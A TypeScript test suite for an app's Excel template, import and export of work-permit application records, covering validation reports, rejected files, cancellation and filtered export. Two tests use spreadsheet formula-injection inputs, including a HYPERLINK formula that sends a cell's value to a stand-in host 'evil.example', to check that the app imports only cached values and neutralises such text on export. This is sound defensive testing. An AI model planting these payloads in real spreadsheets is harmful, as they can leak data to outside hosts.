/**
 * Excel template, import and export, on real SQLite files and real xlsx written with exceljs.
 */
import { afterEach, beforeEach, describe, expect, expectTypeOf, it } from 'vitest';
import ExcelJS from 'exceljs';
import fs from 'node:fs';
import { DOCUMENT_KINDS, documentDef } from '../../shared/documents';
import type { ListFilter } from '../../shared/bridge/contract';
import type { exportFilter } from '../../shared/bridge/channels/data';
import type { z } from 'zod';
import { ServiceError } from '../../shared/bridge/envelope';
import { importXlsx } from '../../main/services/data/excelImport';
import { exportXlsx } from '../../main/services/data/excelExport';
import { templateFile } from '../../main/services/data/excelTemplate';
import { NOTES_SHEET, templateFields } from '../../main/services/data/columns';
import { openXlsxArchive, readPart } from '../../main/services/data/xlsxZip';
import { LICENSE_VALUES } from '../fixtures/documents';
import { call, filledTemplate, openTestApp, storedRecords, validRow, type TestApp } from '../helpers/dataFixtures';
import { fileIn, outPath, readBack, templateFileWith } from '../helpers/xlsxFiles';
import { letters } from '../helpers/letters';

let app: TestApp;
let dir: string;
let cleanup: () => void;

beforeEach(async () => {
  ({ app, dir, cleanup } = await openTestApp());
});
afterEach(() => {
  app.close();
  cleanup();
});

const cellTexts = (row: ExcelJS.Row) => (row.values as unknown[]).slice(1).map((v) => (v === null || v === undefined ? '' : String(v)));

describe('【下载模板】', () => {
  it.each(DOCUMENT_KINDS)('%s: headers are the field labels, 填写说明 explains each column, selects have dropdowns', async (kind) => {
    const dest = outPath(dir);
    const { fileName, sizeBytes } = await templateFile(kind, dest);
    expect(fileName).toMatch(/导入模板\.xlsx$/);
    expect(sizeBytes).toBe(fs.statSync(dest).size);
    const wb = await readBack(dest);
    const fields = templateFields(kind);
    const data = wb.worksheets[0] as ExcelJS.Worksheet;
    expect(cellTexts(data.getRow(1))).toEqual(fields.map((f) => f.label));
    expect(fields.some((f) => f.type === 'photo')).toBe(false);
    const notes = wb.getWorksheet(NOTES_SHEET) as ExcelJS.Worksheet;
    const noted = new Map<string, string[]>();
    notes.eachRow((r, n) => {
      if (n > 1) noted.set(String(r.getCell(1).value ?? ''), cellTexts(r));
    });
    for (const f of fields) {
      const row = noted.get(f.label);
      expect(row, f.label).toBeDefined();
      expect(row?.[1]).toBe(f.labelEn);
      expect(row?.[2]).toBe(f.required ? '是 / yes' : '否 / no');
      if (f.options) expect(row?.[4]).toBe(f.options.join('、'));
    }
    const validations = (data as unknown as { dataValidations: { find(a: string): ExcelJS.DataValidation | undefined } }).dataValidations;
    fields.forEach((f, i) => {
      const dv = validations.find(`${data.getColumn(i + 1).letter}2`);
      if (f.options || f.type === 'country') expect(dv?.type, f.label).toBe('list');
      else expect(dv, f.label).toBeUndefined();
    });
  });
});

describe('【导入】', () => {
  it('200 valid and 5 invalid rows → 200 drafts, and a report naming the 5 rows and their fields', async () => {
    const rows: Record<string, string>[] = [];
    for (let i = 0; i < 205; i++) rows.push(validRow('license', i));
    // excel rows are data index + 2
    (rows[10] as Record<string, string>)['job.district'] = '火星区';
    (rows[50] as Record<string, string>)['person.birthDate'] = '1985-02-30';
    (rows[99] as Record<string, string>)['employer.uscc'] = '91440106MA59C8K3XA';
    (rows[150] as Record<string, string>)['person.nationality'] = 'ZZ';
    delete (rows[204] as Record<string, string>)['person.nameEn'];
    delete (rows[204] as Record<string, string>)['person.nameZh'];
    // accepted spellings: a country by name, a date as an Excel date, a salary as a number
    (rows[1] as Record<string, unknown>)['person.nationality'] = '英国';
    (rows[2] as Record<string, unknown>)['job.start'] = new Date(Date.UTC(2027, 0, 4));
    (rows[3] as Record<string, unknown>)['job.salary'] = 35000;

    const result = await importXlsx(app.core, 'license', await templateFileWith(dir, 'license', rows), { fileName: 'staff.xlsx' });
    expect(result).toMatchObject({ imported: 200, total: 205, cancelled: false });
    const byRow = new Map(result.invalid.map((p) => [p.row, p]));
    expect([...byRow.keys()].sort((a, b) => a - b)).toEqual([12, 52, 101, 152, 206]);
    expect(byRow.get(12)).toMatchObject({ field: 'job.district', label: '工作地点' });
    expect(byRow.get(52)).toMatchObject({ field: 'person.birthDate', label: '出生日期' });
    expect(byRow.get(101)).toMatchObject({ field: 'employer.uscc', label: '统一社会信用代码' });
    expect(byRow.get(152)).toMatchObject({ field: 'person.nationality', label: '国籍' });
    expect(byRow.get(206)).toMatchObject({ field: 'person.nameEn', label: '外文姓名' });
    for (const p of result.invalid) expect(p.message).toContain(' / ');

    const stored = storedRecords(dir);
    expect(stored).toHaveLength(200);
    expect(stored.every((r) => r.kind === 'license' && r.status === 'draft')).toBe(true);
    const second = JSON.parse((stored.find((r) => r.person_name.endsWith(' B')) as { values_json: string }).values_json) as Record<string, string>;
    expect(second['person.nationality']).toBe('GB');
    const third = JSON.parse((stored.find((r) => r.person_name.endsWith(' C')) as { values_json: string }).values_json) as Record<string, string>;
    expect(third['job.start']).toBe('2027-01-04');
    // what was entered is right: the drafts' only blocking problem is the photo, added in the form
    const detail = await call<{ problems: { field: string; severity: string }[] }>(app, 'records:get', { id: stored[0]?.id });
    expect(detail.problems.filter((p) => p.severity === 'block').map((p) => p.field)).toEqual(['person.photo']);
  });

  it('one finding per malformed cell: too long, an error value, a formula\'s error result', async () => {
    const long = { ...validRow('license', 0), 'person.birthPlace': 'L'.repeat(300) };
    const errorCell: Record<string, unknown> = { ...validRow('license', 1), 'job.salary': { formula: '1/0', result: { error: '#DIV/0!' } } };
    const errorValue: Record<string, unknown> = { ...validRow('license', 3), 'job.salary': { error: '#N/A' } };
    const file = await templateFileWith(dir, 'license', [long, errorCell as never, validRow('license', 2), errorValue as never]);
    const result = await importXlsx(app.core, 'license', file);
    expect(result.imported).toBe(1);
    expect(result.invalid.map((p) => [p.row, p.field])).toEqual([
      [2, 'person.birthPlace'],
      [3, 'job.salary'],
      [5, 'job.salary'],
    ]);
    expect(result.invalid[1]?.message).toMatch(/错误值.*error value/);
    expect(result.invalid[2]?.message).toContain('#N/A');
  });

  it('reads cell values, never formulas: a formula cell gives its cached result or nothing', async () => {
    const rows: Record<string, unknown>[] = [
      // a formula whose cached result is valid text: the result is imported
      { ...validRow('license', 0), 'person.birthPlace': { formula: '"LON"&"DON"', result: 'LONDON' } },
      // a formula without a cached result: the cell is empty (an incomplete draft), never the formula text
      { ...validRow('license', 1), 'person.birthPlace': { formula: 'HYPERLINK("http://evil.example/?"&A2,"x")' } },
      { ...validRow('license', 2), 'job.salary': { formula: '30000+5000', result: 35000 } },
    ];
    const result = await importXlsx(app.core, 'license', await templateFileWith(dir, 'license', rows as never));
    expect(result.invalid).toEqual([]);
    expect(result.imported).toBe(3);
    const values = storedRecords(dir).map((r) => JSON.parse(r.values_json) as Record<string, string>);
    const places = values.map((v) => v['person.birthPlace'] ?? '');
    expect(places).toContain('LONDON');
    expect(places).toContain('');
    expect(values.map((v) => v['job.salary'])).toContain('35000');
    expect(storedRecords(dir).some((r) => /HYPERLINK|evil|30000\+/.test(r.values_json))).toBe(false);
  });

  it('fills empty employer columns from the enterprise profile', async () => {
    await call(app, 'profile:save', { name: '广州测试有限公司', uscc: '91440106MA59C8K3XK', address: '广州市天河区', postcode: '510623', type: '私营企业', legalRep: '张三', contact: '李四', phone: '020-38881234' });
    const row = validRow('license');
    for (const k of Object.keys(row)) if (k.startsWith('employer.') && k !== 'employer.authority') delete row[k];
    const result = await importXlsx(app.core, 'license', await templateFileWith(dir, 'license', [row]));
    expect(result.invalid).toEqual([]);
    expect(result.imported).toBe(1);
    const values = JSON.parse(storedRecords(dir)[0]?.values_json ?? '{}') as Record<string, string>;
    expect(values['employer.name']).toBe('广州测试有限公司');
    expect(values['employer.type']).toBe('私营企业');
  });

  const refusedImport = async (bytes: Uint8Array, fileName = 'x.xlsx') => {
    const before = storedRecords(dir);
    const error = await importXlsx(app.core, 'license', fileIn(dir, bytes), { fileName }).then(
      () => null,
      (e: unknown) => e,
    );
    expect(error).toBeInstanceOf(ServiceError);
    expect((error as ServiceError).code).toBe('INVALID_INPUT');
    expect((error as ServiceError).message).toMatch(/未导入任何数据 \/ .*nothing was imported/);
    expect(storedRecords(dir)).toEqual(before);
    return (error as ServiceError).message;
  };

  it('refuses a truncated xlsx, a renamed text file, an .xls and an empty file; nothing changes', async () => {
    await importXlsx(app.core, 'license', await templateFileWith(dir, 'license', [validRow('license')]));
    const good = await filledTemplate('license', [validRow('license', 1), validRow('license', 2)]);
    expect(await refusedImport(good.subarray(0, Math.floor(good.length / 2)))).toMatch(/已损坏或不完整.*damaged or incomplete/);
    expect(await refusedImport(Buffer.from('姓名,护照号码\nSMITH,533281947\n'), 'staff.xlsx')).toMatch(/不是 Excel 工作簿.*not an Excel workbook/);
    expect(await refusedImport(Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0]))).toMatch(/\.xls/);
    expect(await refusedImport(Buffer.alloc(0))).toMatch(/空文件/);
    expect(storedRecords(dir)).toHaveLength(1);
  });

  it('refuses wrong headers, naming the missing and unknown columns', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('Sheet1');
    ws.addRow(['Name', 'Passport', '外文姓名']);
    ws.addRow(['SMITH', '533281947', 'SMITH']);
    const message = await refusedImport(Buffer.from((await wb.xlsx.writeBuffer()) as ArrayBuffer));
    expect(message).toMatch(/表头与.*模板不符/);
    expect(message).toContain('「Name」');
    expect(message).toContain('缺少列');

    // another kind's template is named as such
    const other = await filledTemplate('recruitment', [validRow('recruitment')]);
    expect(await refusedImport(other)).toContain('《聘用外国人就业申请表》的模板');
  });

  it('refuses an empty sheet and a template without data rows', async () => {
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet('Sheet1');
    expect(await refusedImport(Buffer.from((await wb.xlsx.writeBuffer()) as ArrayBuffer))).toMatch(/空白工作表|没有数据/);
    expect(await refusedImport(await filledTemplate('license', []))).toMatch(/没有填写任何数据行/);
    expect(await refusedImport(await filledTemplate('license', [{}, { 'person.nameEn': '   ' }]))).toMatch(/没有填写任何数据行/);
  });

  it('a cancelled import writes nothing; progress events carry the task', async () => {
    await importXlsx(app.core, 'license', await templateFileWith(dir, 'license', [validRow('license')]));
    const rows = Array.from({ length: 600 }, (_, i) => validRow('license', i + 1));
    const file = await templateFileWith(dir, 'license', rows);
    const seen: { task: string; done: number; state: string; label: string }[] = [];
    const off = app.onEvent((name, payload) => {
      if (name !== 'task:progress') return;
      const p = payload as { task: string; done: number; state: string; label: string; total: number };
      seen.push(p);
      if (p.state === 'running' && p.done >= 120 && seen.filter((s) => s.state === 'running' && s.done >= 120).length === 1) {
        void app.dispatch('task:cancel', { task: p.task });
      }
    });
    const result = await importXlsx(app.core, 'license', file, { fileName: 'big.xlsx' });
    off();
    expect(result).toMatchObject({ cancelled: true, imported: 0, total: 600 });
    expect(seen[0]).toMatchObject({ task: result.task, state: 'running', done: 0, label: '导入 / Import: big.xlsx' });
    expect(seen.at(-1)).toMatchObject({ task: result.task, state: 'cancelled' });
    expect(storedRecords(dir)).toHaveLength(1);
  });

  it('every kind imports its valid row', async () => {
    for (const kind of DOCUMENT_KINDS) {
      const result = await importXlsx(app.core, kind, await templateFileWith(dir, kind, [validRow(kind)]));
      expect(result.invalid, kind).toEqual([]);
      expect(result.imported, kind).toBe(1);
    }
    expect(storedRecords(dir)).toHaveLength(DOCUMENT_KINDS.length);
  });
});

describe('【导出】', () => {
  it('exports every row matching the filter (all pages), list columns then every field', async () => {
    expectTypeOf<z.infer<typeof exportFilter>>().toEqualTypeOf<ListFilter>();
    const ids: string[] = [];
    for (let i = 0; i < 25; i++) {
      const name = i < 22 ? `SMITH ${letters(i)}` : `DOE ${letters(i)}`;
      ids.push((await call<{ id: string }>(app, 'records:save', { kind: 'license', values: { ...LICENSE_VALUES, 'person.nameEn': name } })).id);
    }
    await call(app, 'records:submit', { id: ids[0] });
    await call(app, 'records:save', { kind: 'recruitment', values: { 'person.nameEn': 'SMITH OTHER KIND' } });

    const dest = outPath(dir);
    const smiths = await exportXlsx(app.core, 'license', { name: 'smith' }, dest);
    expect(smiths.fileName).toMatch(/^外国人就业许可证书申请表-导出-\d{8}-\d{4}\.xlsx$/);
    expect(smiths.sizeBytes).toBe(fs.statSync(dest).size);
    expect(fs.readdirSync(dir).filter((f) => f.endsWith('.part'))).toEqual([]);
    const ws = (await readBack(dest)).worksheets[0] as ExcelJS.Worksheet;
    const header = cellTexts(ws.getRow(1));
    expect(header.slice(0, 6)).toEqual(['序号', '姓名', '证件号码', '提交状态', '审核状态', '同步状态']);
    expect(header).toContain('创建时间');
    expect(header.slice(-documentDef('license').fields.length)).toEqual(documentDef('license').fields.map((f) => f.label));
    expect(ws.actualRowCount).toBe(1 + 22);
    const names = new Set<string>();
    ws.eachRow((r, n) => {
      if (n > 1) names.add(String(r.getCell(2).value));
    });
    expect(names.size).toBe(22);
    expect([...names].every((n) => n.startsWith('SMITH '))).toBe(true);
    const nationality = header.indexOf('国籍') + 1;
    const photo = header.indexOf('照片') + 1;
    expect(ws.getRow(2).getCell(nationality).value).toBe('英国');
    expect(String(ws.getRow(2).getCell(photo).value)).toMatch(/已附照片/);

    const submitted = outPath(dir);
    await exportXlsx(app.core, 'license', { submitState: '已提交' }, submitted);
    const ws2 = (await readBack(submitted)).worksheets[0] as ExcelJS.Worksheet;
    expect(ws2.actualRowCount).toBe(2);
    expect(cellTexts(ws2.getRow(2)).slice(1, 6)).toEqual(['SMITH A', LICENSE_VALUES['person.passportNo'], '已提交', '待预审', '待上传']);

    const none = outPath(dir);
    await exportXlsx(app.core, 'license', { name: 'nobody' }, none);
    expect(((await readBack(none)).worksheets[0] as ExcelJS.Worksheet).actualRowCount).toBe(1);
  });

  it('neutralises formula-looking text (OWASP): a leading quote, a string cell, never a formula', async () => {
    const hostile = ['=HYPERLINK("http://evil.example","x")', '+86 20 3888 1234', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1', '＝1+1'];
    const ids: string[] = [];
    for (const [i, text] of hostile.entries()) {
      const values = { ...LICENSE_VALUES, 'person.nameEn': `SMITH ${letters(i)}`, 'person.birthPlace': text, 'job.title': text };
      ids.push((await call<{ id: string }>(app, 'records:save', { kind: 'license', values })).id);
    }
    const dest = outPath(dir);
    await exportXlsx(app.core, 'license', {}, dest);
    const ws = (await readBack(dest)).worksheets[0] as ExcelJS.Worksheet;
    const header = cellTexts(ws.getRow(1));
    const place = header.indexOf('出生地') + 1;
    const exported: string[] = [];
    ws.eachRow((row, n) => {
      row.eachCell((cell) => {
        expect(cell.type, `row ${n} ${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.formula, cell.address).toBeFalsy();
      });
      if (n > 1) exported.push(String(row.getCell(place).value));
    });
    // (XML reads a carriage return in text as a line feed)
    expect(exported.sort()).toEqual(hostile.map((t) => `'${t.replace(/\r/g, '\n')}`).sort());
    // the sheet's XML holds no formula element at all
    const sheetXml = (await readPart(await openXlsxArchive(dest), 'xl/worksheets/sheet1.xml'))?.toString('utf8') ?? '';
    expect(sheetXml).toContain('SMITH');
    expect(sheetXml).not.toMatch(/<f[ >]/);
  });
});
